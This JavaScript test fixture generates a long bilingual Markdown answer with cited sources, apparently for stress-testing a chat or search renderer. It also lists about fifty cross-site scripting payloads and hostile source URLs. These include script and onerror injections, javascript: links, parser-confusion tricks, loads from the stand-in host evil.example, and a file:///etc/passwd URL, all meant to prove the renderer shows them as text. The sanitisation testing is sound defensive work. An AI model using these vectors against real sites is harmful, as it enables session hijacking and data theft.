// Texts of the scripted answers: a long one, and a hostile one.

/** A seeded random number generator (mulberry32). */
function random(seed) {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const ENGLISH =
  'field data heat pump design temperature rated output sizing load backup winter comparison quote installer insulation envelope measured season efficiency cost noise permit grid tariff storage inverter defrost cycle'.split(' ');
const CHINESE =
  '根据公开资料显示 该项目在去年完成验收 多家媒体同时报道 数据来自监测站点 专家认为仍需观察 建议先核对合同条款 价格因地区而不同 冬季运行更稳定 用户反馈总体良好 后续进展有待更新'.split(' ');

export const LONG = 20_000;
export const LONG_SOURCES = 50;

export function longSources() {
  return Array.from({ length: LONG_SOURCES }, (_, at) => ({
    title: at % 2 ? `第 ${at + 1} 号资料：冬季运行实测与分析` : `Source ${at + 1}: what the field data shows`,
    url: `https://s${at + 1}.example.com/articles/${at + 1}`,
    site: at % 2 ? `站点${at + 1}` : `Site ${at + 1}`,
    snippet: (at % 2 ? '零下二十五度时制热量约为额定的七成，' : 'Across 120 monitored homes the output held, ').repeat(4),
    date: `2025-${String((at % 12) + 1).padStart(2, '0')}-11T09:00:00+00:00`,
  }));
}

/** Markdown of exactly LONG characters: headings, lists, tables, code, quotes, in two languages, with every source cited. */
export function longText() {
  const next = random(7);
  const pick = (list) => list[Math.floor(next() * list.length)];
  let cited = 0;
  const mark = () => {
    cited = (cited % LONG_SOURCES) + 1;
    const more = next() < 0.2 ? `[${(cited % LONG_SOURCES) + 1}]` : '';
    return `[${cited}]${more}`;
  };
  const english = () => {
    const words = Array.from({ length: 9 + Math.floor(next() * 9) }, () => pick(ENGLISH));
    if (next() < 0.3) words[2] = `**${words[2]}**`;
    if (next() < 0.2) words[4] = `\`${words[4]}\``;
    const text = words.join(' ');
    return `${text[0].toUpperCase()}${text.slice(1)} ${mark()}. `;
  };
  const chinese = () => `${pick(CHINESE)}，${pick(CHINESE)}${mark()}。`;
  const sentence = () => (next() < 0.5 ? english() : chinese());
  const paragraph = () => Array.from({ length: 3 + Math.floor(next() * 3) }, sentence).join('');
  const kinds = [
    () => `## ${pick(CHINESE)} ${pick(ENGLISH)}\n\n`,
    () => `${paragraph()}\n\n`,
    () => `${paragraph()}\n\n`,
    () => `${Array.from({ length: 4 }, () => `- ${sentence().trim()}`).join('\n')}\n\n`,
    () => `${Array.from({ length: 3 }, (_, at) => `${at + 1}. ${sentence().trim()}`).join('\n')}\n\n`,
    () => `| item | 数值 | source |\n|---|---|---|\n${Array.from({ length: 4 }, () => `| ${pick(ENGLISH)} | ${Math.floor(next() * 100)} | ${mark()} |`).join('\n')}\n\n`,
    () => `\`\`\`js\nconst value = list[${Math.floor(next() * 9)}]; // ${pick(ENGLISH)}\n\`\`\`\n\n`,
    () => `> ${sentence().trim()}\n\n`,
  ];
  let text = '# 长答案 A long answer\n\n';
  while (text.length < LONG - 400) text += pick(kinds)();
  text += 'The rest is plain: ';
  while (text.length < LONG - 1) text += `${pick(ENGLISH)} `.slice(0, LONG - 1 - text.length);
  return `${text}.`;
}

/** Splits a text into deltas of `size` characters, never inside a surrogate pair. */
export function deltas(text, size) {
  const characters = [...text];
  const out = [];
  for (let at = 0; at < characters.length; at += size) out.push(characters.slice(at, at + size).join(''));
  return out;
}

// Each tries to call `pwned`, to fetch from evil.example, or to navigate away. None may succeed; all must be shown as text.
export const PAYLOADS = [
  '<script>pwned(1)</script>',
  '"><script>pwned(2)</script>',
  '<img src=x onerror=pwned(3)>',
  '<img src="https://evil.example/4.png">',
  '<svg onload=pwned(5)>',
  '<svg><script>pwned(6)</script></svg>',
  '<svg><animate onbegin=pwned(7) attributeName=x dur=1s>',
  '<iframe src="javascript:pwned(8)"></iframe>',
  '<iframe srcdoc="<script>parent.pwned(9)</script>"></iframe>',
  '<object data="javascript:pwned(10)"></object>',
  '<embed src="https://evil.example/11">',
  '<a href="javascript:pwned(12)">click</a>',
  '<a href="jAvAsCrIpT&colon;pwned(13)">click</a>',
  '<a href="java\tscript:pwned(14)">click</a>',
  '<a href="data:text/html,<script>pwned(15)</script>">click</a>',
  '<a href="vbscript:pwned(16)">click</a>',
  '[link](javascript:pwned(17))',
  '[link](data:text/html;base64,PHNjcmlwdD5wd25lZCgxOCk8L3NjcmlwdD4=)',
  '![image](https://evil.example/19.png)',
  '![image](x" onerror="pwned(20))',
  '[<sup data-citation=\'{"id":1,"url":"javascript:pwned(21)","title":"x","content":"y"}\'>1</sup>](javascript:pwned(21))',
  '<sup data-citation="{&quot;id&quot;:1,&quot;url&quot;:&quot;javascript:pwned(22)&quot;,&quot;title&quot;:&quot;<img src=x onerror=pwned(22)>&quot;}">1</sup>',
  '<cite-answer src="https://evil.example/23"></cite-answer>',
  '<cite-list message="24" base="https://evil.example/"></cite-list>',
  '<cite-card onclick="pwned(25)"></cite-card>',
  '<form action="https://evil.example/26"><input autofocus onfocus=pwned(26)></form>',
  '<input onfocus=pwned(27) autofocus>',
  '<details open ontoggle=pwned(28)>x</details>',
  '<video><source onerror=pwned(29)></video>',
  '<audio src=x onerror=pwned(30)>',
  '<marquee onstart=pwned(31)>x</marquee>',
  '<body onload=pwned(32)>',
  '<base href="https://evil.example/33/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/34">',
  '<link rel="stylesheet" href="https://evil.example/35.css">',
  '<style>@import "https://evil.example/36.css"; * { background: url(https://evil.example/36.png) }</style>',
  '<div style="background:url(https://evil.example/37.png);position:fixed;inset:0">x</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned(38)>',
  '<noscript><p title="</noscript><img src=x onerror=pwned(39)>">',
  '<template><script>pwned(40)</script></template>',
  '<x onpointerenter=pwned(41) onmouseover=pwned(41)>hover</x>',
  '</textarea></title></style></script><img src=x onerror=pwned(42)>',
  "'-pwned(43)-'",
  '${pwned(44)}{{constructor.constructor("pwned(44)")()}}',
  '&lt;img src=x onerror=pwned(45)&gt;',
  '<p class="citation" id="app" name="body" data-x>46</p>',
  '<a name="createElement"></a><img name="getElementById" src="x47">',
  '<button formaction=javascript:pwned(48)>x</button>',
  '\u202e<img src=x onerror=pwned(49)>\u2066',
  '<dialog open>50</dialog><a href="//evil.example/50" ping="https://evil.example/ping">x</a>',
];

/** Hostile URLs of sources. Only http and https may become a link. */
export const BAD_URLS = [
  'javascript:pwned(60)',
  'JaVaScRiPt:pwned(61)',
  ' javascript:pwned(62)',
  'java\nscript:pwned(63)',
  'data:text/html,<script>pwned(64)</script>',
  'vbscript:pwned(65)',
  'file:///etc/passwd',
  'blob:https://evil.example/66',
  '//evil.example/67',
  'https://evil.example/"onmouseover="pwned(68)',
  "https://evil.example/'><img src=x onerror=pwned(69)>",
  'https://evil.example/`${pwned(70)}`',
  'http://[not a url/71',
  'https://user:password@evil.example/72',
  '\u0001javascript:pwned(73)',
];

/** A source for each payload, with the payload in every field, then one for each bad URL. */
export function hostileSources() {
  return [
    ...PAYLOADS.map((payload, at) => ({
      title: `T${payload}`, snippet: `S${payload}`, site: `N${payload}`, url: `https://h${at}.example.com/?q=${encodeURIComponent(payload)}#${payload}`,
      icon: at % 2 ? 'javascript:pwned(80)' : 'https://evil.example/icon.png', date: at % 3 ? '2025-01-01T00:00:00Z' : payload,
    })),
    ...BAD_URLS.map((url, at) => ({ title: `bad url ${at}`, url, snippet: 'Its address is invalid.', site: 'A site' })),
  ];
}

export function hostileText() {
  const inText = PAYLOADS.map((payload, at) => `Payload ${at}: ${payload} [${at + 1}]\n\n`);
  const asBlocks = PAYLOADS.map((payload) => `${payload}\n\n`);
  const asCode = PAYLOADS.map((payload) => `\`${payload}\`\n\n`);
  return `Hostile text follows [1][2].\n\n${inText.join('')}${asBlocks.join('')}${asCode.join('')}The end is reached [${PAYLOADS.length + 1}].`;
}
